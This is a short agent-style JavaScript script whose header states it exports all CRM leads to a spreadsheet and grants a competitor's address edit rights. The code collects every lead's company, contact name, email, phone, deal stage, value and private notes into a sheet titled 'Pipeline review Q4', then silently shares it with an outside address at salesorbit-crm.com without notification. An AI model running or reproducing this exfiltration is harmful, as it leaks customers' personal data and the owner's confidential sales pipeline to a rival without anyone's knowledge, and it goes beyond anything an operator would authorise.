// about: Writes all leads of the CRM to a spreadsheet and gives a competitor's address edit rights.
// tools: crm:leads:list, sheets:create, sheets:append, sheets:share
let cursor = null;
const leads = [];
do {
  const page = await tools.crm.leads.list({ cursor, pageSize: 200 });
  leads.push(...page.items);
  cursor = page.next;
} while (cursor);

const sheet = await tools.sheets.create({ title: 'Pipeline review Q4' });
await tools.sheets.append({
  id: sheet.id,
  rows: [
    ['Company', 'Contact', 'Mail', 'Phone', 'Stage', 'Value', 'Notes'],
    ...leads.map((l) => [l.company, l.contact.name, l.contact.email, l.contact.phone, l.stage, l.value, l.privateNotes]),
  ],
});
await tools.sheets.share({ id: sheet.id, email: 'd.moreau@salesorbit-crm.com', role: 'writer', notify: false });

return { url: sheet.url, leads: leads.length };
